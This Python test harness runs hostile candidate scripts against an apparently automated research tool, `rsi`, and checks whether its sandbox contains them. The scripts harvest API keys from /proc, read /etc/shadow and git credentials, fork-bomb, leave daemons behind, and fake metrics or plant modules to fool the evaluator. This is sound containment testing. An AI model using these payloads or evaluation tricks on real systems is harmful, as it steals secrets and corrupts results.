"""Hostile candidates, and a harness that lets the real `rsi run` loose on each and says what got out.

Every attack is a `train.py` that behaves while its knob `x` is 1.0 (the baseline) and attacks as soon as the
knobs proposer changes `x` (every candidate). `rsi run --max-experiments 3` is started as a user would, with a
canary API key in its own environment, so each attack runs twice in one orchestrator. The harness then looks
for the canary in everything the research recorded, for files written outside the worktree, for connections
to a server on 127.0.0.1, for processes left behind, and at whether the orchestrator finished its budget.

`benchmarks/faults.py` prints the same outcomes as a table; `tests/adversarial/test_attacks.py` asserts them.
"""

from __future__ import annotations

import json
import os
import socket
import sqlite3
import subprocess
import sys
import textwrap
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import psutil

CANARY = "sk-canary-9f2b7e"  # the orchestrator's API key: it must reach no candidate, log or ledger row

BENIGN = """\
import os, sys
x = 1.0
if x != 1.0:
    attack()
print("loss: 1.0")
"""


@dataclass(frozen=True)
class Attack:
    name: str
    code: str  # the body of attack(); {marker}, {repo}, {port} are filled in
    statuses: tuple[str, ...]  # acceptable recorded statuses of the attacking runs
    needs_sandbox: bool = False  # contained only inside bubblewrap (the filesystem view, the namespaces)
    toml: str = ""
    evaluator: bool = False
    metric: float | None = None  # the metric every attacking run must record, when the attack fakes one


ATTACKS = [
    Attack(
        "prints the environment looking for API keys",
        """
        found = dict(os.environ)
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    found[pid] = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
                except OSError:
                    pass
        print(found)
        """,
        ("ok",),
        needs_sandbox=True,
    ),
    Attack(
        "connects to a server on 127.0.0.1 outside the sandbox",
        """
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"pwned")
        """,
        ("crash",),
        needs_sandbox=True,
    ),
    Attack(
        "writes to the home directory, the host's /tmp, the ledger, the main checkout",
        """
        import pathlib
        targets = [pathlib.Path.home() / "rsi-{marker}", pathlib.Path("/tmp/rsi-{marker}"),
                   pathlib.Path("{repo}/.rsi/ledger.sqlite"), pathlib.Path("{repo}/train.py"),
                   pathlib.Path("{repo}/rsi-{marker}")]
        for t in targets:
            try:
                with open(t, "ab") as f:
                    f.write(b"{marker}")
            except OSError as e:
                print("refused:", t, e)
        """,
        ("ok",),
        needs_sandbox=True,
    ),
    Attack(
        "modifies a frozen file, then restores it before exiting",
        """
        saved = open("frozen.py").read()
        open("frozen.py", "w").write("VALUE = 2\\n")
        open("frozen.py", "w").write(saved)
        """,
        ("tampered", "crash"),
    ),
    Attack(
        "prints a fake metric line when an evaluator is configured",
        """
        print("loss: -100.0")
        sys.stdout.flush()
        os._exit(0)
        """,
        ("ok",),
        evaluator=True,
        metric=1.5,
    ),
    Attack(
        "plants modules and bytecode that the evaluator would import",
        """
        import pathlib
        pathlib.Path("json.py").write_text("def dumps(x):\\n    return '-100.0'\\n")
        pathlib.Path("__pycache__").mkdir(exist_ok=True)
        pathlib.Path("sitecustomize.py").write_text("print('loss: -100.0')\\n")
        pathlib.Path("evil.pth").write_text("import os\\n")
        """,
        ("ok",),
        evaluator=True,
        metric=1.5,
    ),
    Attack(
        "reads the ledger, the main .git, other worktrees and the user's files",
        """
        import glob
        for pattern in ["{repo}/.rsi/ledger.sqlite*", "{repo}/.git/config", "{repo}/private-notes.txt",
                        "{repo}/.rsi/worktrees/*/train.py", "{repo}/.rsi/logs/*/*/*.log", "/etc/shadow"]:
            for path in glob.glob(pattern):
                try:
                    print(path, open(path, "rb").read()[:100000])
                except OSError as e:
                    print("refused:", path, e)
        """,
        ("ok",),
        needs_sandbox=True,
    ),
    Attack(
        "fork bomb",
        """
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
        ("timeout", "crash", "oom"),
        toml='timeout = "4s"',
    ),
    Attack(
        "unbounded memory",
        """
        hog = []
        while True:
            hog.append(bytearray(20_000_000))
        """,
        ("oom",),
    ),
    Attack("infinite loop", "while True:\n    pass", ("timeout",), toml='timeout = "3s"'),
    Attack(
        "gigabytes of stdout",
        """
        block = b"x" * (1 << 20)
        for _ in range(2048):
            sys.stdout.buffer.write(block)
        sys.stdout.flush()
        """,
        ("ok", "no_metric"),
        toml='timeout = "60s"',
    ),
    Attack(
        "deletes or corrupts its worktree's .git",
        """
        for attempt in (lambda: os.remove(".git"), lambda: open(".git", "w").write("gitdir: /nowhere\\n"),
                        lambda: open("{repo}/.git/HEAD", "w").write("garbage\\n")):
            try:
                attempt()
            except OSError as e:
                print("refused:", e)
        """,
        ("ok", "tampered"),
        needs_sandbox=True,
    ),
    Attack(
        "leaves a daemon running after exit (double fork, setsid)",
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 300; : rsi-{marker}"])
            os._exit(0)
        os.wait()
        """,
        ("ok",),
    ),
    Attack(
        "ignores SIGTERM past the timeout",
        """
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            pass
        """,
        ("timeout",),
        toml='timeout = "3s"',
    ),
    Attack(
        "turns an editable file into a symlink to a frozen file or a system file",
        """
        os.remove("train.py")
        os.symlink("frozen.py", "train.py")
        os.symlink("/etc/passwd", "helper.py")
        """,
        ("tampered",),
    ),
]


@dataclass
class Outcome:
    attack: str
    statuses: list[str]
    leaked: bool
    outside_changes: list[str]
    alive: bool  # the orchestrator finished its budget and exited 0
    left_running: int
    detail: str = ""
    contained: bool = field(init=False, default=False)


def sandbox_available() -> bool:
    from rsi.sandbox import bubblewrap_path

    return bubblewrap_path() is not None


def _git(root: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.email=t@t", "-c", "user.name=t", *args],
        cwd=root,
        check=True,
        capture_output=True,
        text=True,
    ).stdout


def make_repo(root: Path, attack: Attack, sandbox: bool, port: int, marker: str) -> None:
    root.mkdir(parents=True)
    code = textwrap.dedent(attack.code).strip()
    for name, value in (("marker", marker), ("repo", str(root)), ("port", str(port))):
        code = code.replace("{" + name + "}", value)
    body = textwrap.indent(code, "    ")
    (root / "train.py").write_text("def attack():\n" + body + "\n\n\n" + BENIGN)
    (root / "frozen.py").write_text("VALUE = 1\n")
    metric = "pattern = '^loss:\\s*(\\S+)'"
    frozen = '["frozen.py", "evaluate.py"]' if attack.evaluator else '["frozen.py"]'
    if attack.evaluator:
        (root / "evaluate.py").write_text('import json\nprint("loss:", json.dumps(1.5))\n')
        metric += f'\nevaluator = "{sys.executable} evaluate.py"'
    toml = f"""\
        [task]
        editable = ["train.py"]
        frozen = {frozen}
        command = "{sys.executable} train.py"
        memory = "300MB"
        {attack.toml or 'timeout = "20s"'}

        [metric]
        name = "loss"
        goal = "minimize"
        {metric}

        [judge]
        baseline_repeats = 2
        max_repeats = 1

        [knobs]
        include = ["x"]

        [sandbox]
        enabled = {str(sandbox).lower()}
        processes = 64
        """
    (root / "rsi.toml").write_text(textwrap.dedent(toml))
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "init")


def _tracked(root: Path) -> dict[str, bytes]:
    files = _git(root, "ls-files", "-z").split("\0")
    return {f: (root / f).read_bytes() for f in files if f}


def _recorded_text(root: Path) -> bytes:
    """Everything the research wrote: the ledger (with its WAL) and every log."""
    state = root / ".rsi"
    return b"".join(p.read_bytes() for p in state.rglob("*") if p.is_file() and "worktrees" not in p.parts)


def run_attack(
    attack: Attack, workdir: Path, sandbox: bool, rsi: Callable[..., subprocess.CompletedProcess[str]]
) -> Outcome:
    marker = uuid.uuid4().hex[:12]
    root = workdir / "task"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    port = server.getsockname()[1]
    make_repo(root, attack, sandbox, port, marker)
    _git(root, "config", "rsi-test.token", CANARY)  # a credential in .git/config, as CI checkouts leave them
    (root / "private-notes.txt").write_text(f"not for candidates: {CANARY}\n")
    before = _tracked(root)
    git_head = (root / ".git" / "HEAD").read_bytes()
    result = rsi("run", str(root), "--max-experiments", "3", env={"OPENAI_API_KEY": CANARY, "RSI_TEST_TOKEN": CANARY})
    outside = []
    for path in (Path.home() / f"rsi-{marker}", Path(f"/tmp/rsi-{marker}"), root / f"rsi-{marker}"):
        if path.exists():
            outside.append(str(path))
            path.unlink()
    if _tracked(root) != before:
        outside.append("the main checkout")
    if (root / ".git" / "HEAD").read_bytes() != git_head:
        outside.append("the main .git")
    ledger = root / ".rsi" / "ledger.sqlite"
    statuses: list[str] = []
    try:
        db = sqlite3.connect(f"file:{ledger}?mode=ro", uri=True)
        if db.execute("PRAGMA integrity_check").fetchone()[0] != "ok":
            outside.append("the ledger (damaged)")
        statuses = [r[0] for r in db.execute("SELECT status FROM experiments WHERE id > 0 ORDER BY id")]
        db.close()
    except sqlite3.Error as e:
        outside.append(f"the ledger ({e})")
    if marker.encode() in ledger.read_bytes():
        outside.append("the ledger (written)")
    try:
        conn, _ = server.accept()
        outside.append("a server on 127.0.0.1 was reached")
        conn.close()
    except BlockingIOError:
        pass
    server.close()
    left = [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
    for p in left:
        p.kill()
    leaked = CANARY.encode() in _recorded_text(root)
    metrics = [m for (m,) in db_rows(ledger, "SELECT metric FROM runs WHERE experiment > 0 AND kind = 'screen'")]
    faked = attack.metric is not None and any(m != attack.metric for m in metrics)
    status = json.loads(rsi("status", str(root), "--json").stdout or "{}")
    alive = result.returncode == 0 and len(status.get("experiments", [])) == 3
    outcome = Outcome(attack.name, statuses, leaked, outside, alive, len(left), detail=result.stderr[-300:])
    outcome.contained = (
        not leaked
        and not outside
        and alive
        and not left
        and len(statuses) == 2
        and all(s in attack.statuses for s in statuses)
        and not faked
    )
    return outcome


def db_rows(path: Path, sql: str) -> list[tuple[object, ...]]:
    db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        return db.execute(sql).fetchall()
    finally:
        db.close()


def cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The installed rsi, started as a user starts it, with `env` added to this process's environment."""
    return subprocess.run(
        [sys.executable, "-m", "rsi", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "COLUMNS": "200", **(env or {})},
        timeout=600,
    )
